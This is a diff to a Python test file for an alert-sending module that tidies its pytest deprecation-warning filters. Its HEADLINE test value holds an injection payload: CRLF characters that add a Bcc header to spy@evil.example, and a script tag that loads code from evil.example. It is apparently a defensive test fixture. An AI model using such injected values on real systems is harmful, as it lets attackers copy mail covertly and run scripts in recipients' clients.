@@ -12,12 +12,10 @@ from processors.alerts.send import DeliveryError, send_message
 from processors.alerts.template import EXAMPLE, Template
 from processors.records import Alert
 
-pytestmark = [
-    # Apprise imports it, once, when it is first asked for a channel.
-    pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning"),
-    # aiosmtpd asks whether a function is a coroutine in a way that Python 3.14 deprecates.
-    pytest.mark.filterwarnings("ignore:'asyncio.iscoroutinefunction' is deprecated:DeprecationWarning"),
-]
+# aiosmtpd asks whether a function is a coroutine in a way that Python 3.14 deprecates.
+pytestmark = pytest.mark.filterwarnings(
+    "ignore:'asyncio.iscoroutinefunction' is deprecated:DeprecationWarning"
+)
 
 HEADLINE = (
     "Elders \u0646 met\r\nBcc: spy@evil.example\r\n\r\n<script src=http://evil.example/s></script>"
